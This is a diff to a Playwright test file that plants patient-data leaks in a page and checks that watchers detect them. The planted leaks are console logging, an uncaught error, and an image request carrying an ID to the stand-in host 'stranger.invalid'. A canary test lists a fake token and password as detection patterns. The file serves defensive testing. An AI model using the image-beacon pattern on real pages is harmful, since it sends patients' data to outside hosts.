@@ -2,7 +2,34 @@
 import { expect, test } from '@playwright/test';
 
 import { accessibilityViolations } from './support/accessibility';
+import { canariesIn } from './support/canaries';
 import { expectQuiet, test as watchedTest } from './support/watched-test';
+
+/** Ways in which a page could tell about a patient, each planted. */
+const LEAKS: readonly (readonly [place: string, plant: () => void])[] = [
+  [
+    'console.info',
+    () => {
+      console.info({ patient: 'ANA MUÑOZ' });
+    },
+  ],
+  [
+    'window.onerror',
+    () => {
+      setTimeout(() => {
+        throw new Error('orden 202611200005');
+      });
+    },
+  ],
+  [
+    'a report of the policy',
+    () => {
+      const picture = document.createElement('img');
+      picture.src = 'http://stranger.invalid/1010009236.png';
+      document.body.append(picture);
+    },
+  ],
+];
 
 watchedTest.describe('the listeners of a journey', () => {
   watchedTest('see a violation of the content security policy', async ({ page, watched }) => {
@@ -64,6 +91,29 @@ watchedTest.describe('the listeners of a journey', () => {
     watched.violations.length = 0;
     watched.errors.length = 0;
   });
+
+  for (const [place, plant] of LEAKS) {
+    watchedTest(`see patient data in ${place} (K1)`, async ({ page, watched }) => {
+      watched.expected = [/./];
+      await page.goto('/');
+      await page.evaluate(plant);
+      await expect.poll(() => watched.leaks.join()).toContain(place);
+      watched.violations.length = 0;
+      watched.strangers.length = 0;
+      expect(() => {
+        expectQuiet(watched);
+      }).toThrow('patient data in logs');
+      watched.leaks.length = 0;
+    });
+  }
+});
+
+test('canaries are names, numbers, orders, tokens and passwords, and nothing else is one (K1)', () => {
+  const token = ['eyJhbGciOiJIUzI1NiJ9', 'eyJzdWIiOiIxIn0', 'c2lnbmF0dXJl'].join('.');
+  const texts = ['ANA MUÑOZ', 'id 1010009236', '/order/202611200005/0', token, 'Medico.2026'];
+  expect(texts.flatMap(canariesIn)).toHaveLength(texts.length);
+  const harmless = ['El 20/11/2026 a las 10:00', '1763798400000', 'MUÑOZA', 'assets/a-1010.js'];
+  expect(harmless.flatMap(canariesIn)).toEqual([]);
 });
 
 test('axe sees an image without a text alternative', async ({ page }) => {
